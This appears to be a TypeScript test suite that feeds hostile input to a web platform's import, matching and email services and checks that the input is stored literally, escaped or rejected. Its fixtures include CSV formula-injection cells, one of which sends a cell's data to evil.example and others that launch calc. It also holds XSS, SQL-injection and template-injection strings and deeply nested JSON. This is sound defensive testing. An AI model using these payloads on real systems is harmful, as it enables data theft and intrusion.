import { randomUUID } from 'node:crypto';
import { matchingInbox } from '@suite/contracts';
import { createProducer } from '@suite/contracts/queues';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderRecommendationEmail } from '../../services/notification/src/domain/recommendation-email';
import { renderShortlistEmail } from '../../services/notification/src/domain/shortlist-email';
import { challengeBody, ideaBody, seedIds, seedIngest, waitUntil } from './seed';
import { fingerprint, startService, tokenSigner } from './service-under-test';

/** Cells a spreadsheet would run as formulas if they were exported as they are. */
const formulas = [
  '=HYPERLINK("http://evil.example/x?leak="&A1,"Click me")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
const csvCell = (value: string) => `"${value.replaceAll('"', '""')}"`;

/** Free text that must come back byte for byte: markup, script, SQL, template syntax, quotes. */
const markup = '<script>alert("x")</script><img src=x onerror=alert(1)> & <b>bold</b>';
const sqlText = `Robert'); DROP TABLE ideas;-- " OR 1=1 -- \${7*7} {{7*7}} \\x00 not a nul`;

const nested = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const nestedObject = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

describe('ingest under hostile input', () => {
  let service: Awaited<ReturnType<typeof startService.ingest>>;
  let admin = '';
  beforeAll(async () => {
    // A 1 MB limit, so 10,000 levels of nesting (20-60 kB) reach the parser instead of the size check.
    service = await startService.ingest({ env: { BODY_LIMIT: '1mb' } });
    admin = (await tokenSigner(service.config)({ role: 'admin' })) as string;
    await seedIngest(service.app, admin);
  }, 180_000);
  afterAll(async () => {
    await service?.close();
  });
  const get = (path: string) => request(service.app).get(path).set('authorization', `Bearer ${admin}`);

  it('a CSV import keeps formula-like cells as plain text, read back exactly', async () => {
    const rows = formulas.map(
      (formula, i) =>
        `formula-${i},${seedIds.innovator},${csvCell(formula)},${csvCell(`${formula} as description`)},idea,6`,
    );
    const res = await request(service.app)
      .post('/v1/imports?kind=ideas')
      .set('authorization', `Bearer ${admin}`)
      .set('content-type', 'text/csv')
      .send(['id,innovatorId,title,description,stage,sdgs', ...rows].join('\n'));
    expect(res.status, res.text).toBe(202);
    let status: Record<string, unknown> = {};
    await waitUntil('the import finished', async () => {
      status = (await get(`/v1/imports/${res.body.id}`)).body;
      return status.status !== 'running';
    });
    expect(status).toMatchObject({ status: 'completed', accepted: formulas.length, rejected: 0 });
    for (const [i, formula] of formulas.entries()) {
      const idea = await get(`/v1/ideas/formula-${i}`);
      expect(idea.status, idea.text).toBe(200);
      expect(idea.body.title).toBe(formula);
      expect(idea.body.description).toBe(`${formula} as description`);
    }
    const listed = await get(`/v1/innovators/${seedIds.innovator}/ideas`);
    expect(listed.body.items.map((i: { title: string }) => i.title)).toEqual(
      expect.arrayContaining(formulas),
    );
  });

  it('no route exports CSV (so there is no export to neutralise formulas in)', () => {
    const routes = service.app.locals.routes as { responses: Record<number, { contentType?: string }> }[];
    const csvExports = routes.filter((r) =>
      Object.values(r.responses).some((x) => x.contentType?.includes('csv')),
    );
    expect(csvExports).toEqual([]);
  });

  it('HTML and SQL in free text are stored literally and read back byte-identical', async () => {
    const put = await request(service.app)
      .put('/v1/ideas/idea-hostile')
      .set('authorization', `Bearer ${admin}`)
      .send(ideaBody({ title: markup, description: sqlText }));
    expect(put.status, put.text).toBe(200);
    const challenge = await request(service.app)
      .put('/v1/challenges/c-hostile')
      .set('authorization', `Bearer ${admin}`)
      .send(challengeBody({ title: `' OR '1'='1`, description: markup }));
    expect(challenge.status, challenge.text).toBe(200);
    const idea = await get('/v1/ideas/idea-hostile');
    expect(idea.body.title).toBe(markup);
    expect(idea.body.description).toBe(sqlText);
    const stored = await get('/v1/challenges/c-hostile');
    expect(stored.body.title).toBe(`' OR '1'='1`);
    expect(stored.body.description).toBe(markup);
    // The tables are all still there and the other rows untouched.
    expect((await get(`/v1/ideas/${seedIds.idea}`)).status).toBe(200);
  });

  it('SQL in a query parameter is a 400 at its field, not a query', async () => {
    const res = await get(`/v1/challenges?organisationId=${encodeURIComponent("' OR 1=1 --")}`);
    expect(res.status, res.text).toBe(400);
    expect(res.body.errors?.[0]?.path).toBe('query.organisationId');
  });

  for (const [label, body] of [
    ['10,000 nested arrays', nested(10_000)],
    ['10,000 nested objects', nestedObject(10_000)],
    ['65 nested arrays (one past the limit)', nested(65)],
  ] as const) {
    it(`${label} in a JSON body -> 400, nothing stored`, async () => {
      const before = await fingerprint(service.deps.database);
      const res = await request(service.app)
        .put('/v1/challenges/c-nested')
        .set('authorization', `Bearer ${admin}`)
        .set('content-type', 'application/json')
        .send(body);
      expect(res.status, res.text.slice(0, 300)).toBe(400);
      expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
      expect(await fingerprint(service.deps.database)).toBe(before);
    });
  }

  it('a JSON body past the limit (1.5 MB) -> 413 problem+json, nothing stored', async () => {
    const before = await fingerprint(service.deps.database);
    const res = await request(service.app)
      .put('/v1/challenges/c-huge')
      .set('authorization', `Bearer ${admin}`)
      .set('content-type', 'application/json')
      .send(JSON.stringify(challengeBody({ description: 'x'.repeat(1_500_000) })));
    expect(res.status, res.text.slice(0, 300)).toBe(413);
    expect(res.body.code).toBe('PAYLOAD_TOO_LARGE');
    expect(await fingerprint(service.deps.database)).toBe(before);
  });
});

describe('matching and notification under deep and huge JSON', () => {
  let matching: Awaited<ReturnType<typeof startService.matching>>;
  let notification: Awaited<ReturnType<typeof startService.notification>>;
  beforeAll(async () => {
    [matching, notification] = await Promise.all([
      startService.matching({ workers: true }),
      startService.notification(),
    ]);
  }, 180_000);
  afterAll(async () => {
    await Promise.all([matching?.close(), notification?.close()]);
  });

  const cases = () =>
    [
      { app: matching.app, method: 'post', path: '/v1/sdg/tags', config: matching.config },
      { app: notification.app, method: 'put', path: '/v1/preferences', config: notification.config },
    ] as const;

  it('10,000 levels of nesting -> 400 or 413, never 500', async () => {
    for (const c of cases()) {
      const token = await tokenSigner(c.config)({ role: 'innovator', innovatorId: seedIds.innovator });
      for (const body of [nested(10_000), nestedObject(10_000), `{"text":${nested(1_500)}}`]) {
        const res = await request(c.app)
          [c.method](c.path)
          .set('authorization', `Bearer ${token}`)
          .set('content-type', 'application/json')
          .send(body);
        expect([400, 413], `${c.path}: ${res.status} ${res.text.slice(0, 200)}`).toContain(res.status);
        expect(res.headers['content-type']).toMatch(/application\/problem\+json/);
      }
    }
  });

  it('a JSON body past the route limit -> 413', async () => {
    for (const c of cases()) {
      const token = await tokenSigner(c.config)({ role: 'innovator', innovatorId: seedIds.innovator });
      const res = await request(c.app)
        [c.method](c.path)
        .set('authorization', `Bearer ${token}`)
        .set('content-type', 'application/json')
        .send(JSON.stringify({ text: 'vatten '.repeat(200_000) }));
      expect(res.status, `${c.path}: ${res.text.slice(0, 200)}`).toBe(413);
      expect(res.body.code).toBe('PAYLOAD_TOO_LARGE');
    }
  });

  it('the console pages never echo user text server-side (challenge title, query, path)', async () => {
    const producer = createProducer(matchingInbox, matching.deps.queue);
    await producer.add('challenge.upserted', {
      eventId: randomUUID(),
      version: 1,
      occurredAt: new Date().toISOString(),
      challenge: { id: 'c-page', ...challengeBody({ title: markup, description: sqlText }), sdgTargets: [] },
    } as never);
    await producer.close();
    await waitUntil('matching projected the hostile challenge', async () =>
      Boolean(await matching.deps.index.challenge('c-page')),
    );
    const pages = [
      await request(matching.app).get('/challenges/c-page'),
      await request(matching.app).get(`/admin?q=${encodeURIComponent(markup)}`),
      await request(matching.app).get(`/challenges/c-page?x=${encodeURIComponent(markup)}`),
    ];
    for (const page of pages) {
      expect(page.status).toBe(200);
      expect(page.headers['content-type']).toMatch(/text\/html/);
      expect(page.text).not.toContain('<script>alert');
      expect(page.text).not.toContain('onerror=alert');
      expect(page.text).not.toContain('DROP TABLE');
      expect(page.headers['content-security-policy'], 'pages carry a CSP').toBeTruthy();
    }
    // Markup in the path is refused before any page is built.
    const bad = await request(matching.app).get(`/challenges/${encodeURIComponent(markup)}`);
    expect(bad.status).toBe(400);
    expect(bad.text).not.toContain('<script>');
  });
});

describe('emails escape user text', () => {
  const links = {
    unsubscribeUrl: 'https://suite.example.org/v1/unsubscribe?token=t',
    preferencesUrl: 'https://suite.example.org/v1/preferences?token=t',
  };
  const assertEscaped = (html: string) => {
    expect(html).not.toContain('<script>');
    expect(html).not.toContain('<img src=x');
    expect(html).not.toContain('<b>bold</b>');
    expect(html).toContain('&lt;script&gt;alert(');
  };

  it('a recommendation email escapes the name, challenge title and organisation; the text part keeps them literally', () => {
    for (const locale of ['sv', 'en'] as const) {
      const mail = renderRecommendationEmail({
        locale,
        recipientName: markup,
        items: [
          {
            challengeId: 'c-1',
            title: markup,
            organisationName: sqlText,
            sharedTerms: ['<i>term</i>'],
            sharedSdgs: [6],
            link: 'javascript:alert(1)',
          },
        ],
        clock: { now: new Date(), timeZone: 'Europe/Stockholm' },
        ...links,
      });
      assertEscaped(mail.html);
      expect(mail.html).not.toContain('<i>term</i>');
      expect(mail.html).not.toContain('javascript:');
      expect(mail.text).toContain(markup);
    }
  });

  it('a shortlist email escapes the challenge and idea titles', () => {
    const mail = renderShortlistEmail({
      locale: 'en',
      challengeTitle: markup,
      relaxed: false,
      entries: [
        {
          rank: 1,
          ideaTitle: markup,
          group: 'woman',
          score: 0.5,
          sharedTerms: ['<i>t</i>'],
          sharedSdgs: [6],
        },
      ],
      total: 1,
      balance: { pool: { woman: 1 }, list: { woman: 1 } },
      link: 'https://suite.example.org/challenges/c-1',
    });
    assertEscaped(mail.html);
    expect(mail.html).not.toContain('<i>t</i>');
    // A subject is a plain-text header, not HTML: the title shows there as written, not as entities.
    expect(mail.subject).toContain(markup);
  });
});
